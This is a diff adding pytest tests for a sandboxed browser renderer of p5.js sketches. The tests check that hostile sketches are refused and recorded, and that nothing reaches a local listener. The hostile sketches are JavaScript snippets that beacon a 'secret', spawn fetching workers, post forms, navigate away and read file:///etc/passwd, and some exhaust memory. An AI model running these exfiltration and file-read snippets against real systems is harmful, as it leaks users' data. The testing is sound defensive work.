@@ -445,3 +445,103 @@ def test_pool_cache_renders_identical_jobs_once(pool):
     after = pool.cache.stats()
     assert after["hits"] - before["hits"] == 3 and after["misses"] - before["misses"] == 2
     assert "p5+brush:" in pool.ping()[0]["env"] and "gl:llvmpipe" in pool.ping()[0]["env"]
+
+
+# -------------------------------------------------------------------------------------- sandbox
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A TCP and a UDP socket on 127.0.0.1 recording every connection / datagram."""
+    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(8)
+    udp.bind(("127.0.0.1", 0))
+    for s in (tcp, udp):
+        s.settimeout(0.1)
+    hits: list = []
+    stop = threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            for take in (lambda: tcp.accept(), lambda: udp.recvfrom(2048)):
+                try:
+                    hits.append(take())
+                except OSError:
+                    pass
+
+    threading.Thread(target=listen, daemon=True).start()
+    yield f"127.0.0.1:{tcp.getsockname()[1]}", hits
+    stop.set()
+
+
+#: One hostile sketch per sandbox rule: (setup body with {u} = the listener's host:port, text that
+#: must appear in ``refused``, expected status).
+HOSTILE = {
+    "event_source": ("new EventSource('http://{u}/es')", "connect-src", "ok"),
+    "send_beacon": ("navigator.sendBeacon('http://{u}/beacon', 'secret')", "http://{u}/beacon", "ok"),
+    "blob_worker": ("new Worker(URL.createObjectURL(new Blob(['fetch(\"http://{u}/w\")'])))", "worker-src", "ok"),
+    "shared_worker": ("try {{ new SharedWorker('/sw.js') }} catch (e) {{}}", "worker-src", "ok"),
+    "popup": ("window.open('http://{u}/popup')", "popup ", "ok"),
+    "dialogs": ("alert('a'); confirm('b'); prompt('c')", "dialog prompt: c", "ok"),
+    "download": ("const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; "
+                 "document.body.appendChild(a); a.click()", "download data:text/plain,x", "ok"),
+    "file_read": ("fetch('file:///etc/passwd').catch(() => {{}}); const x = new XMLHttpRequest(); "
+                  "try {{ x.open('GET', 'file:///etc/hostname'); x.send(); }} catch (e) {{}}", "file:///etc/passwd", "ok"),
+    "form_post": ("const f = document.createElement('form'); f.action = 'http://{u}/form'; f.method = 'post'; "
+                  "document.body.appendChild(f); f.submit()", "form-action", "ok"),
+    "navigate_away": ("location.href = 'http://{u}/nav'", "navigation ", "error"),
+}
+
+
+@pytest.mark.parametrize("rule", sorted(HOSTILE))
+def test_hostile_sketch_is_refused_recorded_and_nothing_gets_out(renderer, listener, rule):
+    addr, hits = listener
+    body, expect, status = HOSTILE[rule]
+    code = ("async function setup() { createCanvas(600, 600, WEBGL); " + body.format(u=addr) +
+            "; await new Promise((r) => setTimeout(r, 800)); noLoop(); }\nfunction draw() { background(200); }")
+    hits.clear()
+    res = renderer.render(code, 0, SIZE, 20, 1)
+    time.sleep(0.3)
+    assert res.status == status, (res.status, res.js_errors, res.detail)
+    assert any(expect.format(u=addr) in r for r in res.refused), res.refused
+    assert hits == []  # not even a TCP handshake (a navigation's preconnect did reach it without netns)
+    assert renderer.netns  # this machine has user namespaces; without them the preconnect leaks
+
+
+def test_page_over_the_memory_cap_is_killed_and_the_browser_lives_on():
+    with Renderer(gl_backend="llvmpipe", memory_cap_mb=512) as r:
+        browser_pid = r.procs.browser.pid
+        buffers = "async function setup() { createCanvas(600, 600, WEBGL); const a = []; while (true) a.push(new Uint8Array(32e6).fill(1)); }"
+        res = r.render(buffers, 0, SIZE, 60, 1)
+        assert res.status == "error" and res.js_errors[0].startswith("memory cap") and res.attempts == 1
+        assert any(x.startswith("memory ") for x in res.refused)
+        assert r.procs.browser.pid == browser_pid and r.procs.browser.is_running()  # same browser
+        ok(r.render(BLANK, 0, SIZE, 30, 1))
+        heap = "async function setup() { createCanvas(600, 600, WEBGL); const a = []; while (true) a.push(new Array(1e6).fill(Math.random())); }"
+        res = r.render(heap, 0, SIZE, 60, 1)  # V8 heap: --max-old-space-size (cap/2) or the RSS watch
+        print(f"\nV8 heap hog: {res.status} {res.js_errors[:1]} in {res.wall_s:.1f} s")
+        assert res.status == "error"
+        ok(r.render(BLANK, 0, SIZE, 30, 1))
+
+
+def test_wrong_canvas_size_fails_the_gate_from_the_png(renderer):
+    from brushrl.config import GateConfig
+    from brushrl.gate.runtime import check_runtime
+
+    res = ok(renderer.render(SKELETON.replace("createCanvas(600, 600", "createCanvas(640, 480"), 0, SIZE, 30, 1))
+    assert Image.open(io.BytesIO(res.png)).size == (640, 480)
+    assert check_runtime(res, GateConfig(), SIZE).verdict == "wrong_canvas_size"
+
+
+def test_p5_global_collision_is_a_clear_error_not_a_hang(renderer):
+    t = time.monotonic()
+    res = renderer.render("function log() {}\n" + SKELETON, 0, SIZE, 20, 1)
+    assert res.status == "error" and "log" in res.js_errors[0] and time.monotonic() - t < 15
+
+
+def test_brush_calls_are_counted_in_the_page(renderer):
+    res = ok(renderer.render(HEAVY, 3, SIZE, 60, 1))
+    assert res.brush_calls["fill"] == 19 and res.brush_calls["vertex"] == 72 and res.brush_calls["circle"] == 1
+    assert res.brush_calls["fillBleed"] == 15 and "Polygon" not in res.brush_calls
+    assert res.cpu_s > 0.1 and res.peak_rss_mb > 50
